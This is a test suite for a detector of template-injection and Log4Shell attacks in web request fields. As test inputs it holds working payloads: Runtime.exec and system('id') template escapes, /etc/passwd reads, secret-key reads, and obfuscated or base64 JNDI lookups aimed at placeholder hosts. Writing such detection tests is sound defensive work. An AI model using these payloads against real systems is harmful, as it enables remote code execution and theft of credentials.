import { describe, expect, test } from "bun:test";
import { expressionAnalyzer } from "../../../src/detect/analyzers/expression.ts";
import { jndiHits } from "../../../src/detect/analyzers/expression/jndi.ts";

const analyze = (text: string) => expressionAnalyzer.analyze({ text, location: "query", path: "query.q", name: "q", kind: "value" });
const top = (text: string, cls = "ssti") => analyze(text).filter((f) => f.class === cls).reduce((m, f) => Math.max(m, f.strength), 0);

describe("expression analyzer: template injection", () => {
  test.each([
    ["{{7*7}}"], ["{{7*'7'}}"], ["${7*7}"], ["#{7*7}"], ["<%= 7*7 %>"], ["[[5*5]]"],
    ["{{''.__class__.__mro__[2].__subclasses__()}}"],
    ["{% for x in ().__class__.__base__.__subclasses__() %}"],
    ["{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"],
    ["{{['id']|filter('system')}}"],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ["*{T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"],
    ["#set($x = $class.inspect('java.lang.Runtime'))"],
    ["<%= File.open('/etc/passwd').read %>"],
    ["@{[ system 'id' ]}"],
    ["@{[keys %ENV]}"],
    ["{% if True %}49{% endif %}"],
    ["<%= if 7*7==49 %>ok<% end %>"],
    // Output and whitespace-control signs are syntax: doT's `{{=`, Handlebars' `~`, Jinja's `-`, EJS's `-%>`.
    ["{{= 7*7}}"], ["{{~7*7~}}"], ["{%- if 1 == 1 -%}x{% endif %}"], ["<%- 7*7 -%>"],
    ["{%+ if 1 == 1 %}x{% endif %}"],
    // A constant computed by a filter that computes (Liquid).
    ["{{ 7 | times: 7 }}"],
    // What Smarty scans send: the engine's version, its template object, arithmetic of constants.
    ["{$smarty.version}"], ["{$smarty.template_object}"], ['{math equation="7*7"}'],
    // Smarty tags that read a system file, a climb or a URL into the page.
    ["{fetch file='/etc/passwd'}"], ["{include file='file:///etc/passwd'}"], ["{include file='file:/etc/passwd'}"], ['{FETCH file="php://filter/resource=index.php"}'],
    // An ERB scriptlet whose code starts with an instance variable is code, not a JSP directive.
    ["<%@o=Kernel.send(:exec,'id')%>"],
  ])("%s", (text) => {
    expect(top(text)).toBeGreaterThanOrEqual(0.8);
  });

  test("OGNL's context map called, Velocity's reference walked to reflection, Thymeleaf's preprocessing, FreeMarker's special variables", () => {
    const found: [string, string][] = [
      ["redirect:${#req=#context.get('co'+'m.open'+'symphony.xwork2.dispatcher.HttpServletRequest'),#req.getRealPath('/')}", "ognl-context"],
      ["$request.getClass().getClassLoader()", "velocity-reflection"], ["$!{foo.bar.getClass().forName('x')}", "velocity-reflection"],
      ['__|$${#response.setHeader("X","1")}|__::', "thymeleaf-preprocess"], ["${.data_model?keys}", "freemarker-special-variable"],
      ['<#assign classloader=object?api.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>', "freemarker-api-escape"],
    ];
    for (const [text, rule] of found) expect([text, analyze(text).map((f) => f.rule)]).toEqual([text, expect.arrayContaining([`expression.${rule}`])]);
    for (const text of ["#context .item { color: red }", "Price $price.total for $user.name", 'this.getClass().getClassLoader().getResource("x")', "${data_model}", "__init__::x"]) expect([text, top(text)]).toEqual([text, 0]);
  });

  test("a short polyglot of three engines' delimiters is a probe for which engine runs", () => {
    expect(analyze(`\${{<%[%'"}}%\\.`).map((f) => f.rule)).toEqual(["expression.template-probe"]);
    expect(top("{{=<% ${ #{")).toBe(0.8);
    // Two engines' syntax, or a template longer than a probe, is no polyglot.
    for (const v of ["{{name}} costs ${price}", "a #{x} and {{y}}", `{{ user }} ${"x".repeat(60)} \${total} <% if a %>`]) expect(top(v)).toBe(0);
  });

  test("a member that leads to Function, reached by name where the engine hides it, is an escape", () => {
    expect(top('{{this.push (lookup string.sub "constructor")}}')).toBeGreaterThanOrEqual(0.9);
    expect(top('{{lookup person "name"}}')).toBe(0);
    // The names as data: a comparison, a translation key, a string printed.
    for (const v of ['{{#if (eq stage "prototype")}}x{{/if}}', '{{t "prototype"}}', '{{ "constructor" }}']) expect([v, top(v)]).toEqual([v, 0]);
  });

  test("a constant added rather than multiplied is a weaker sign (7+7 also reads as text)", () => {
    expect(top("{{7|add:7}}")).toBe(0.6);
    expect(top("{{ 7 + 7 }}")).toBe(0.6);
  });

  test("a template expression that computes, in a URL path, is Struts' OGNL probe; a failed interpolation's name is not", () => {
    const path = (text: string) => expressionAnalyzer.analyze({ text, location: "path", path: "path", name: "", kind: "path" }).reduce((m, f) => Math.max(m, f.strength), 0);
    expect(path("/${(111+111)}/actionChain1.action")).toBe(0.85);
    expect(path("/api/${id}/items")).toBeLessThan(0.5);
  });

  test("a statement that prints a constant product is the probe `{{7*7}}` is, spaces or none", () => {
    for (const v of ["{%print(7*7)%}", "{% print 7*7 %}", "{% echo 3*3 %}"]) expect([v, top(v)]).toEqual([v, 0.85]);
    expect(top("{% print total %}")).toBe(0);
  });

  test("a constant assigned to a name is a weak sign: templates name their constants so", () => {
    for (const v of ["{% set x = 7*7 %}{{x}}", "#set($x = 7*7)$x", "{%- set columns = 12 * 1 -%}"]) expect([v, top(v)]).toEqual([v, 0.6]);
  });

  test("a module that runs commands imported in a template is a sign, not proof (code hosting shows such templates)", () => {
    for (const v of ["<%! import os %>", "<% import json, os %>", "{% import subprocess %}", "<% from os import popen %>"]) expect([v, top(v)]).toEqual([v, 0.7]);
    for (const v of ["<% import json, re %>", "{% from 'macros.html' import field %}", "<%! import os.path %>"]) expect([v, top(v)]).toEqual([v, 0]);
    // Imported and run in the same block: code that runs commands, as without the import.
    for (const v of ["<% import os; os.system('id') %>", "<% from os import popen; popen('id') %>", "{% import subprocess; subprocess.check_output('id', shell=True) %}"]) {
      expect([v, top(v)]).toEqual([v, 0.95]);
    }
  });

  test("engine globals are a sign, a call on them more", () => {
    expect(top("{{config}}")).toBeGreaterThan(0);
    // Whitespace control is syntax: the global is the content.
    expect(top("{{- config -}}")).toBe(0.5);
    expect(top("{{config.items()}}")).toBeGreaterThan(top("{{config}}"));
    // A secret read off one is the leak itself; EL's implicit scopes are such globals.
    for (const v of ["{{settings.SECRET_KEY}}", "{{ config.SECRET_KEY }}", "${applicationScope.dbPassword}"]) expect([v, top(v)]).toEqual([v, 0.85]);
    expect(top("${applicationScope}")).toBe(0.5);
    expect(top("{{ settings.theme }}")).toBe(0.6);
  });

  test("the evidence is the whole construct", () => {
    const text = "name=Bob{{7*7}}!";
    const f = analyze(text)[0]!;
    expect(text.slice(f.start, f.end)).toBe("{{7*7}}");
    expect(f.rule).toBe("expression.mustache-arithmetic");
  });

  test.each([
    ["Hello {{name}}, your order {{ order.id }} ships {{ ship_date|date('Y-m-d') }}"],
    ["{{#each items}}{{this}}{{/each}}"],
    ["${user.firstName} ${price}"],
    ["const s = `${a}-${b.c()}`"],
    ['{"a":{"b":1},"c":[1,2]}'],
    ["T(x) and (a.b)"],
    ["[[Main Page]]"],
    ["100%{width}"],
    ["{% if user.is_admin %}Admin{% endif %}"],
    ["email me @ {[note]}"],
    ["{{ price | times: 2 }}"],
    ["{% set total = cart.total %}"],
    ["{$user.name} and { $smarty.now }"],
    ['&copy; {$smarty.now|date_format:"%Y"} Acme Ltd. {$smarty.const._PS_BASE_URL_}'],
    ['{math equation="(x / y) * 100" x=$sold y=$total format="%.2f"}'],
    ["{include file='header.tpl'}"], ["{include file='file:header.tpl'}"], ["{include file='file:/usr/local/share/templates/navigation.tpl'}"], ["{fetch file='/var/data/news.txt'}"], ["{include file='module:ps_shoppingcart/ps_shoppingcart.tpl'}"], ["{include file='../common/header.tpl'}"], ["{extends file='extends:layout.tpl'}"],
    ["{{=name}} {{~name~}}"],
    ["a <%@ b %>"],
    ['<%@ page contentType="text/html;charset=UTF-8" language="java" %><%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>'],
    ['<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="App._Default" %>'],
    ["{% set seconds_per_day = 60 * 60 * 24 %}"],
    ["<% ttl = 60 * 60 %>"],
    ["{% import 'forms.html' as forms %}"],
  ])("benign: %s", (text) => {
    expect(top(text)).toBeLessThan(0.8);
  });

  test("unclosed and deeply nested input stays linear and finding-free when benign", () => {
    for (const s of ["{{".repeat(300_000), "${".repeat(300_000), "T(".repeat(300_000), "#set(".repeat(200_000), "<%".repeat(300_000)]) {
      expect(Array.isArray(analyze(s))).toBe(true);
    }
    expect(top(`${"{{x}} ".repeat(200_000)}{{7*7}}`)).toBeGreaterThanOrEqual(0.8);
  });
});

describe("expression analyzer: signatures in any case", () => {
  // One pass decides which constructs to search for: it must see each signature however it is cased.
  test.each([
    ['{PHP}system("id");{/PHP}', "expression.smarty-php"],
    ['%{#CONTEXT["xwork.MethodAccessor.denyMethodExecution"]=false}', "expression.ognl-member-access"],
    ["<#ASSIGN x=1>", "expression.freemarker-assign"],
    ["@JAVA.lang.Runtime@getRuntime()", "expression.ognl-static-member"],
  ])("%s", (text, rule) => {
    expect(analyze(text).some((f) => f.rule === rule)).toBe(true);
  });
});

describe("expression analyzer: Log4Shell", () => {
  test.each([
    ["${jndi:ldap://x.example/a}"],
    ["${${lower:j}${::-n}di:ldap://x/a}"],
    ["${${env:NOPE:-j}ndi${env:NOPE:-:}rmi://x/a}"],
    ["${${date:'j'}${upper:n}di:dns://x}"],
    ["${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"],
    ["${JnDi:LdAp://x/a}"],
    ["User ${jndi:${lower:l}${lower:d}a${lower:p}://x/a} here"],
  ])("%s", (text) => {
    expect(top(text, "log4shell")).toBeGreaterThanOrEqual(0.9);
  });

  test("text and lookups outside a JNDI lookup do not change it", () => {
    const text = "a ${x} b} ${${lower:J}ndi:ldap://x/a} c ${y}";
    const hits = jndiHits(text);
    expect(hits.length).toBe(1);
    expect(text.slice(hits[0]!.start, hits[0]!.end)).toBe("${${lower:J}ndi:ldap://x/a}");
  });

  test("the span covers the outermost lookup", () => {
    const text = "a ${${::-j}ndi:ldap://x/a} b";
    const [h] = jndiHits(text);
    expect(text.slice(h!.start, h!.end)).toBe("${${::-j}ndi:ldap://x/a}");
  });

  test("a cut-off lookup still counts, less", () => {
    const s = top("${jndi:ldap://x.example/a", "log4shell");
    expect(s).toBeGreaterThanOrEqual(0.8);
    expect(s).toBeLessThan(top("${jndi:ldap://x.example/a}", "log4shell"));
  });

  test("a lookup that resolves to `$` before `{jndi:...}` makes a new lookup: Log4j scans what it resolved again", () => {
    for (const text of ["${:1337:-x$}{jndi:ldap://198.51.100.7/a}", "${::-$}{jndi:rmi://x/a}", "${::-$}${::-{}jndi:dns://x}"]) {
      const [h] = jndiHits(text);
      expect(h?.strength).toBeGreaterThanOrEqual(0.9);
      expect([h!.start, h!.end]).toEqual([0, text.length]);
    }
    // An unclosed lookup after it does not stop the second reading.
    expect(jndiHits("${::-$}{jndi:ldap://x/a} ${")[0]?.strength).toBeGreaterThanOrEqual(0.9);
    // Resolved text with no new lookup, or a lookup that is not JNDI, is nothing.
    for (const text of ["${::-$}{name}", "${::-$}{env:HOME}", "${::-x}{jndi:ldap://x/a}"]) expect(jndiHits(text)).toEqual([]);
  });

  test("lookups that resolve to something else are not JNDI", () => {
    for (const s of ["${env:HOME}", "${lower:JNDI}", "${sys:user.name:-jn}di", "${java:version}"]) expect(jndiHits(s)).toEqual([]);
    expect(top("${lower:JNDI}", "log4shell")).toBe(0);
  });

  test("Log4j's own lookups: env and sys count some, one only Log4j resolves or one that only hides letters counts as proof", () => {
    for (const s of ["${env:AWS_SECRET_ACCESS_KEY}", "x-${sys:user.name}", "${env:NOPE:-j}", "${env:PATH}"]) expect(top(s, "log4shell")).toBe(0.7);
    for (const s of ["${java:version}", "${ctx:loginId}", "x ${jvmrunargs:0} y", "${JAVA:os}", "${k8s:podName}"]) expect(analyze(s).find((f) => f.class === "log4shell")).toMatchObject({ rule: "expression.log4j-only-lookup", strength: 0.85 });
    for (const s of ["${::-j}", "${${::-${::-$${::-j}}}}", "${:1337:-x}"]) expect(top(s, "log4shell")).toBe(0.85);
    // Hidden as Log4j reads it: a name spelt by a case or date lookup, a lookup in the key, base64, the Kelvin sign Java lower-cases to k.
    for (const s of ["${${lower:j}ava:version}", "${${date:'j'}ava:version}", "${java:${lower:v}ersion}", `\${base64:${Buffer.from("${java:version}").toString("base64")}}`, "${\u212A8s:podName}"]) {
      expect([s, top(s, "log4shell")]).toEqual([s, 0.85]);
    }
    // A shell's defaults and substrings whose variable shares a lookup's name are no proof.
    for (const s of ["${DOCKER:-docker}", "exec ${JAVA:-java} -jar app.jar", "DOCKER=${DOCKER:=docker}", "${EVENT:-push}", 'echo "${main:0:7}"']) expect([s, top(s, "log4shell")]).toEqual([s, 0]);
    expect(analyze("a ${env:HOME} b").find((f) => f.class === "log4shell")!.rule).toBe("expression.log4j-secret-lookup");
    // Other template languages: bash and Compose defaults, Spring placeholders, JS templates.
    for (const s of ["${HOME:-/root}", "${SERVER_PORT:8080}", "Hello ${user.name}", "${a}:-b"]) expect(top(s, "log4shell")).toBe(0);
  });

  test("Commons Text interpolator lookups that run a script, resolve a host, fetch a URL or read a file", () => {
    for (const s of ["${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${dns:address|x.example}", "a ${url:UTF-8:http://198.51.100.7/} b", "${file:UTF-8:/etc/passwd}"]) {
      expect(analyze(s).find((f) => f.rule === "expression.interpolator-lookup")).toMatchObject({ class: "ssti", strength: 0.85 });
    }
    for (const s of ["${file:cfg}", "${url}", "${dns}", "Hello ${name}", "${script:x}", "${url:/home}"]) expect(analyze(s).find((f) => f.rule === "expression.interpolator-lookup")).toBeUndefined();
  });

  test("a lookup sent in base64: Log4j decodes it and substitutes what it gives", () => {
    const encoded = Buffer.from("${jndi:ldap://x.example/a}").toString("base64");
    // Padding in front decodes to NULs in front: a long text hides nothing.
    const padded = `${"AAAA".repeat(2000)}${encoded}`;
    for (const s of [`\${base64:${encoded}}`, `\${\${base64:${encoded}}}`, `x \${base64:${encoded}} y`, `\${base64:${padded}}`]) expect(top(s, "log4shell")).toBe(0.97);
    expect(top(`\${base64:${Buffer.from("hello").toString("base64")}}`, "log4shell")).toBe(0);
  });

  test("a JNDI URL written out counts outside any lookup: a hiding not resolved here still spells it", () => {
    for (const s of ["jndi:ldap://x.example/a", "$&LBRACE;jndi:ldap://x.example/a}", "%{jndi:rmi://198.51.100.7:1099/Obj}", "x JNDI : dns://x.example"]) {
      expect(analyze(s).find((f) => f.class === "log4shell")).toMatchObject({ rule: "expression.jndi-url", strength: 0.85 });
    }
    expect(analyze("${jndi:ldap://x.example/a}").map((f) => f.rule)).toEqual(["expression.jndi-lookup"]);
    for (const s of ["see the jndi: docs", "jndi:java:comp/env/jdbc/ds", "spring.datasource.jndi-name=ldap"]) expect(top(s, "log4shell")).toBe(0);
  });
});

describe("expression analyzer: sandbox walks without dunders", () => {
  test("class.base.subclasses() is an escape, user.class is not", () => {
    expect(top("{{ [].class.base.subclasses() }}")).toBeGreaterThanOrEqual(0.8);
    expect(top("{{ user.class }}")).toBe(0);
  });
});

describe("expression analyzer: round s22's fixes", () => {
  test("a FreeMarker directive that reads the template's special variables is a probe, as the interpolation is", () => {
    for (const v of ["<#list .data_model?keys as k>${k}</#list>", "[#list .vars?keys as k]", "<#if (.vars?size > 0)>", "${ .vars}"]) expect([v, top(v)]).toEqual([v, 0.85]);
    // A variable's own member named so is the template's data, not the special variable.
    for (const v of ["<#if user.main??>", "<#list items as item>${item.name}</#list>"]) expect([v, top(v)]).toEqual([v, 0]);
    // A CSS selector in a directive's string is no special variable.
    expect(analyze('<#assign sel = "#app .main">').map((f) => f.rule)).not.toContain("expression.freemarker-special-variable");
  });
});

describe("expression analyzer: Django's tags that dump the context", () => {
  test("`{% debug %}` and `{% get_admin_log %}` print what the page was given", () => {
    for (const v of ["{%debug%}", " {%- debug -%} ", "{% get_admin_log 10 as admin_log for_user user %}"]) expect([v, top(v)]).toEqual([v, 0.85]);
    // Inside a template saved whole (its own debug block) it is weak.
    expect(top("{% if debug %}<pre>{% debug %}</pre>{% endif %}")).toBe(0.5);
    for (const v of ["{% if debug %}", "{% debugger %}"]) expect([v, top(v)]).toEqual([v, 0]);
  });
});

describe("expression analyzer: Go's template probes", () => {
  test("`{{.}}` and a printing function on constants echo what the sender wrote", () => {
    for (const v of ["{{.}}", " {{ . }} ", '{{html "ssti"}}', "{{print 7}}", '{{js "x" 1}}']) expect([v, top(v)]).toEqual([v, 0.85]);
    // A template that prints data names it; another engine's helper with a string is a translation;
    // inside a template, Mustache's loop prints its item with `{{.}}` and a chart prints constants.
    for (const v of ["{{print .Name}}", "{{ .Title }}", '{{t "welcome"}}', "{{user.id}}", "<ul>{{#tags}}<li>{{.}}</li>{{/tags}}</ul>", "checksum: '{{ . }}'", 'q={{html "ssti"}}']) expect([v, top(v)]).toEqual([v, 0]);
  });
});

describe("expression analyzer: a product concatenated into a broken string", () => {
  test("a literal closed, two numbers multiplied, the literal opened again", () => {
    for (const v of ["aaaaaaaa'+{233*233}+'bbbbbb", '"+(7*7)+"', "'+7*7+'"]) expect([v, top(v)]).toEqual([v, 0.85]);
    // Code joins data, and people put blanks around operators.
    for (const v of ["'<b>'+n*2+'</b>'", "x = 'a' + 2*3 + 'b'"]) expect([v, top(v)]).toEqual([v, 0]);
  });
});

describe("expression analyzer: a host name's label is no class root", () => {
  test("`{{kube-system.svc.cluster.local}}` is Jira's monospace around a cluster's DNS name", () => {
    expect(top("{{kube-system.svc.cluster.local}}")).toBe(0);
    expect(top("${java.lang.Runtime}")).toBe(0.9);
  });
});
